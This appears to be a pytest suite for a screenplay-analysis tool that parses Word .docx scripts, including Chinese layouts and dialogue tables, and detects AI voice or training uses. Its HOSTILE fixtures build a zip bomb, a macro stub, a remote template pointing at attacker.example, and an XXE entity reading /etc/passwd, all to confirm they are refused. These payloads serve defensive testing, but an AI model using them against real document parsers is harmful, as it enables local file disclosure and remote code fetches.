"""Word .docx scripts: styles, Word and Chinese layouts, tables; hostile packages refused."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.shared import Pt
from hypothesis import given, settings
from hypothesis import strategies as st

from main import main
from models.scripts import ElementKind, ScriptFormat, ScriptReadError, detect_ai_uses, read_bytes

K = ElementKind


def _save(doc) -> bytes:
    buffer = io.BytesIO()
    doc.save(buffer)
    return buffer.getvalue()


def _styled() -> bytes:
    doc = Document()
    for name in ("Scene Heading", "Action", "Character", "Parenthetical", "Dialogue", "Shot"):
        doc.styles.add_style(name, WD_STYLE_TYPE.PARAGRAPH)
    doc.styles.add_style("Transition", WD_STYLE_TYPE.PARAGRAPH)
    for style, text in [
        ("Scene Heading", "INT. SOUND STAGE - DAY"),
        ("Action", "MARY watches her digital double on the monitor."),
        ("Character", "MARY (AI V.O.)"),
        ("Parenthetical", "(beat)"),
        ("Dialogue", "That is not my voice."),
        ("Shot", "ANGLE ON THE MONITOR"),
        ("Character", "TECH."),
        ("Dialogue", "We trained a model on your old takes."),
        ("Transition", "CUT TO:"),
        ("Scene Heading", "EXT. PARKING LOT - NIGHT"),
    ]:
        doc.add_paragraph(text, style=style)
    return _save(doc)


def test_screenplay_styles_give_element_types_and_paragraph_line_numbers():
    doc = read_bytes(_styled(), "script.docx")
    assert doc.format is ScriptFormat.DOCX and doc.pages_estimated
    assert [(s.heading, s.line) for s in doc.scenes] == [
        ("INT. SOUND STAGE - DAY", 1),
        ("EXT. PARKING LOT - NIGHT", 10),
    ]
    assert {c.name: c.dialogue_blocks for c in doc.characters} == {"MARY": 1, "TECH": 1}
    assert [(e.kind, e.line) for e in doc.elements if e.kind in (K.SHOT, K.TRANSITION)] == [
        (K.SHOT, 6),
        (K.TRANSITION, 9),
    ]
    for e in doc.elements:  # every line number is the paragraph the element came from
        assert e.text.split("\n")[0][:4] in doc.line_text(e.line)
    uses = {(u.line, u.character, u.kind.value) for u in detect_ai_uses(doc)}
    assert (3, "MARY", "voice") in uses and (8, "TECH", "training") in uses


def test_a_word_script_without_styles_is_read_from_its_layout():
    doc = Document()
    doc.add_paragraph("INT. Kitchen - Morning.")
    doc.add_paragraph("Anna pours coffee.").paragraph_format.space_after = Pt(12)
    for name, speech in [("ANNA", "You're late."), ("BEN", "I know.")]:
        cue = doc.add_paragraph(name)
        cue.alignment = WD_ALIGN_PARAGRAPH.CENTER
        doc.add_paragraph(speech).paragraph_format.space_after = Pt(12)
    doc.add_paragraph("CRACK!").paragraph_format.space_after = Pt(12)
    right = doc.add_paragraph("CUT TO:")
    right.alignment = WD_ALIGN_PARAGRAPH.RIGHT
    read = read_bytes(_save(doc), "plain.docx")
    assert [s.heading for s in read.scenes] == ["INT. Kitchen - Morning."]
    assert [(c.name, c.first_line) for c in read.characters] == [("ANNA", 3), ("BEN", 5)]
    assert [e.text for e in read.elements if e.kind is K.ACTION] == [
        "Anna pours coffee.",
        "CRACK!",
    ]
    assert [e.text for e in read.elements if e.kind is K.TRANSITION] == ["CUT TO:"]


def test_chinese_paragraphs_and_a_dialogue_table_use_the_text_rules():
    doc = Document()
    doc.add_paragraph("1. 内景 医院走廊 日")
    doc.add_paragraph("△林晓走进医院。")
    doc.add_paragraph("林晓：这是什么地方？")
    table = doc.add_table(rows=0, cols=2)
    for name, speech in [("王强", "（小声）这里是急诊部。"), ("林晓", "用她的声音训练模型？")]:
        cells = table.add_row().cells
        cells[0].text, cells[1].text = name, speech
    doc.add_paragraph("2. 外景 门口 夜")
    read = read_bytes(_save(doc), "中文.docx")
    assert read.format is ScriptFormat.DOCX
    assert [(s.heading, s.line) for s in read.scenes] == [
        ("内景 医院走廊 日", 1),
        ("外景 门口 夜", 8),
    ]
    assert {c.name: c.dialogue_blocks for c in read.characters} == {"林晓": 2, "王强": 1}
    assert read.line_text(6) == "林晓" and read.line_text(7) == "用她的声音训练模型？"
    wang = [e for e in read.elements if e.character == "王强"]
    assert [(e.kind, e.text, e.line) for e in wang][1:] == [
        (K.PARENTHETICAL, "（小声）", 4),
        (K.DIALOGUE, "这里是急诊部。", 4),
    ]


def _package(extra: dict[str, bytes], *, replace: dict[str, bytes] | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(_styled()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = (replace or {}).get(item.filename, source.read(item))
            out.writestr(item, data)
        for name, data in extra.items():
            out.writestr(name, data)
    return buffer.getvalue()


def _with_relationship(kind: str, target: str) -> bytes:
    rels = zipfile.ZipFile(io.BytesIO(_styled())).read("word/_rels/document.xml.rels")
    rel = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    ).encode()
    return _package({}, replace={"word/_rels/document.xml.rels": rels.replace(b"</", rel + b"</")})


HOSTILE = {
    "zip-bomb": (lambda: _package({"word/media/big.bin": bytes(60_000_000)}), "zip bomb"),
    "macros": (lambda: _package({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "macros"),
    "remote-template": (
        lambda: _with_relationship("attachedTemplate", "http://attacker.example/t.dotm"),
        "external",
    ),
    "entities": (
        lambda: _package(
            {},
            replace={
                "word/document.xml": b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM '
                b'"file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats'
                b'.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r>'
                b"</w:p></w:body></w:document>"
            },
        ),
        "DOCTYPE",
    ),
    "not-word": (lambda: _zip_of({"mimetype": b"application/x-celtx"}), "does not read"),
    "damaged": (lambda: _styled()[:3000], "not a readable Word document"),
}


def _zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for name, data in members.items():
            out.writestr(name, data)
    out_bytes = buffer.getvalue()
    return out_bytes


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_packages_are_refused(case):
    make, message = HOSTILE[case]
    with pytest.raises(ScriptReadError, match=message):
        read_bytes(make(), "hostile.docx")


@pytest.mark.parametrize("case", ["zip-bomb", "macros", "remote-template", "entities"])
def test_hostile_docx_on_the_command_line_is_one_line_and_exit_2(capsys, tmp_path, case):
    path = tmp_path / "hostile.docx"
    path.write_bytes(HOSTILE[case][0]())
    code = main(["script", "analyze", str(path)])
    out, err = capsys.readouterr()
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and err.startswith("consent-desk: ") and "refused" in err


def test_a_hyperlink_is_an_allowed_external_relationship():
    data = _with_relationship("hyperlink", "https://example.com/notes")
    assert read_bytes(data, "linked.docx").dialogue_blocks == 2


def test_a_docx_is_sniffed_whatever_its_name():
    assert read_bytes(_styled(), "script.txt").format is ScriptFormat.DOCX


_STYLE_NAMES = ["Scene Heading", "Action", "Character", "Parenthetical", "Dialogue", "Transition"]
_PART = st.one_of(
    st.tuples(st.just("Scene Heading"), st.sampled_from(["INT. HALL - DAY", "EXT. PARK - NIGHT"])),
    st.tuples(st.just("Action"), st.sampled_from(["She waits.", "CRACK!", "NEW SHOT"])),
    st.tuples(st.just("Character"), st.sampled_from(["ANNA", "BEN (V.O.)", "DR. NO", "ZIPPY."])),
    st.tuples(st.just("Transition"), st.just("CUT TO:")),
)


@settings(max_examples=30, deadline=None)
@given(st.lists(_PART, min_size=1, max_size=25), st.booleans())
def test_any_styled_or_laid_out_word_script_reads_back_its_counts(parts, styled):
    doc = Document()
    if styled:
        for name in _STYLE_NAMES:
            doc.styles.add_style(name, WD_STYLE_TYPE.PARAGRAPH)
    paragraph_of: list[str] = []
    for style, text in parts:
        p = doc.add_paragraph(text, style=style if styled else None)
        paragraph_of.append(text)
        if style == "Character":
            if not styled:
                p.alignment = WD_ALIGN_PARAGRAPH.CENTER
            q = doc.add_paragraph("Hello there.", style="Dialogue" if styled else None)
            paragraph_of.append("Hello there.")
            q.paragraph_format.space_after = Pt(12)
        elif not styled:
            p.paragraph_format.space_after = Pt(12)
    read = read_bytes(_save(doc), "any.docx")
    cues = [text for style, text in parts if style == "Character"]
    names = {c.split(" (")[0].rstrip(".") for c in cues}
    assert read.dialogue_blocks == len(cues)
    assert set(read.character_names) == names
    assert len(read.scenes) == sum(style == "Scene Heading" for style, _ in parts)
    assert list(read.lines) == paragraph_of  # one line per paragraph, in order


def test_the_command_line_reads_a_docx(capsys, tmp_path):
    path = tmp_path / "script.docx"
    path.write_bytes(_styled())
    code = main(["script", "analyze", str(path), "--json"])
    out, err = capsys.readouterr()
    data = json.loads(out)
    assert (code, err) == (0, "")
    assert data["format"] == "docx" and data["dialogue_blocks"] == 2
    assert [s["line"] for s in data["scenes"]] == [1, 10]


def test_an_english_dialogue_table_reads_as_cues_over_speech():
    doc = Document()
    doc.add_paragraph("INT. STUDIO - DAY").paragraph_format.space_after = Pt(12)
    table = doc.add_table(rows=0, cols=2)
    rows = [("ANNA", "Is that my voice?"), ("TECH", "A voice clone."), ("ANNA", "No.")]
    for name, speech in rows:
        cells = table.add_row().cells
        cells[0].text, cells[1].text = name, speech
    read = read_bytes(_save(doc), "table.docx")
    assert {c.name: c.dialogue_blocks for c in read.characters} == {"ANNA": 2, "TECH": 1}
    assert [e.line for e in read.elements if e.kind is K.CHARACTER] == [2, 4, 6]
    assert [u.kind.value for u in detect_ai_uses(read)] == ["voice"]


def test_centred_cues_of_nearly_one_length_in_a_word_layout_all_speak():
    """Centred names of 3 to 7 letters start close together, as if at one indent; the longer
    last cue (HANDSOME MAN, Brick & Steel's last speech) is a cue too, not centred text."""
    doc = Document()
    doc.add_paragraph("EXT. PALATIAL MANSION - DAY").paragraph_format.space_after = Pt(12)
    names = ["STEEL", "BRICK", "JACK", "DAN", "COGNITO", "MINION", "HANDSOME MAN"]
    for name in names:
        cue = doc.add_paragraph(name)
        cue.alignment = WD_ALIGN_PARAGRAPH.CENTER
        doc.add_paragraph("I want them dead.").paragraph_format.space_after = Pt(12)
    doc.add_paragraph("Beer flies.")
    read = read_bytes(_save(doc), "word-layout.docx")
    assert set(read.character_names) == set(names)
    assert read.dialogue_blocks == len(names)
    assert [e.text for e in read.elements if e.kind is K.CENTERED] == []
